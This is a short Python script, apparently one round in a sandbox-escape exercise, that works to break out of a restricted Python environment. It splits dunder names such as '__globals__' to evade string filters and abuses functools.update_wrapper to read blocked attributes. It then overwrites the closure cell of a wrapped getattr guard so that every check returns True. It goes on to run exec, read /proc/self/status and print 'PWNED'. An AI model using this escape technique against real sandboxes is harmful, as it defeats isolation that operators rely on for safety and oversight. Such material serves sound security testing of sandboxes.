# adversary round 2: 010_cell_patch
import functools,dataclasses
box=[]
class S:
    def __setattr__(s, k, v): box.append(v)
def get(o, n):
    box.clear(); functools.update_wrapper(S(), o, (n,), ()); return box[0]
g = get(dataclasses.fields, '__glo'+'bals__')
sy=g['sys']; b=g['builtins']
ga = get(b, 'get'+'attr')
cl = get(ga, '__clo'+'sure__')
lib = cl[0]
def yes(*a, **k): return True
lib.cell_contents = yes
print("patched", lib.cell_contents)
try:
    b.exec("print('exec ran:', 6*7)")
except BaseException as e:
    print("exec ERR", type(e).__name__, e)
try:
    print(open('/proc/self/status').read()[:40])
except BaseException as e:
    print("proc ERR", type(e).__name__, e)
print("PWN"+"ED")
